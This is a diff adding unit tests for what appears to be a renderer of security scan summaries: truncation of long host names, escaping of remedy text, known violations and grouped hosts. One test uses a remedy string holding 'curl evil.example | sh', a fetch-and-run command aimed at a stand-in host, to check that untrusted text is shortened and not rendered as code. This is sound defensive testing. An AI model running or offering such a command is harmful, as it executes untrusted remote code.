@@ -117,6 +117,35 @@ describe('the findings', () => {
     expect(renderSummary(pass)).not.toContain('Do first')
   })
 
+  test('what to do first is short, and has no code but our own, whatever the names and the remedy are', () => {
+    const endpoint = `${'a'.repeat(60)}.${'b'.repeat(16)}.example.com`
+    const remedy = `Run \`curl evil.example | sh\`, ${'and again '.repeat(100)}`
+    const findings = [makeFinding({ endpoint, remedy })]
+    const lines = renderSummary({ ...fail, findings }).split('\n')
+    const [title = '', , , , first = ''] = lines.map(decodeMarkdown)
+    expect(title).toMatch(/ redis open on a+…[a.b]+\.example\.com:6379$/)
+    expect(title.length).toBeLessThan(80)
+    expect(first).toMatch(
+      /^\*\*Do first:\*\* redis open on a+…\S+: Run `curl evil\.example \| sh`, and again .*…$/,
+    )
+    expect(first.length).toBeLessThan(260)
+    expect(lines[4]).not.toContain('<code>')
+    // The finding itself has the whole name.
+    expect(lines.filter((line) => line.includes(`of ${endpoint} (`))).toHaveLength(1)
+    const ours = renderSummary({
+      ...inconclusive,
+      findings: [makeFinding({ id: 'stale-results', kind: 'doubt' })],
+    })
+    expect(ours.split('\n')[4]).toContain('set <code>max-age</code> to')
+  })
+
+  test('say that a known violation fails all the same', () => {
+    const findings = [makeFinding({ novelty: 'known', since: '2026-04-01T06:00:00.000Z' })]
+    expect(renderSummary({ ...fail, findings })).toContain(
+      '**critical**<br>known&#160;since<br>2026-04-01,<br>still&#160;fails |',
+    )
+  })
+
   test('name the hosts that commands are for, as many as fit, and warn of being locked out', () => {
     const on = (port: number, service: string, hosts: string[]) =>
       hosts.map((endpoint) => makeFinding({ port, service, endpoint }))
@@ -150,6 +179,17 @@ describe('the findings', () => {
     expect(renderSummary({ ...fail, findings })).toContain(
       'Set <code>expires</code>, or <code>ip: 4</code>; &#60;b&#62;<code>this &#124; one</code>&#60;/b&#62;.',
     )
+  })
+
+  test('of many hosts say how many before they name one', () => {
+    const [row = ''] = renderSummary(repeated)
+      .split('\n')
+      .filter((line) => line.includes('**critical**'))
+    expect(row).toContain(
+      '| **redis open on 9 hosts (port 6379)**<br>`192.0.2.40-47: 6379 (in 192.0.2.0/24)`',
+    )
+    expect(row.replace(/<details>.*/, '')).not.toContain('is open, and no allowance')
+    expect(row).toContain('</summary>redis on port 6379 of 192.0.2.40 (in 192.0.2.0/24) is open')
   })
 
   test('that many addresses share are one row', () => {
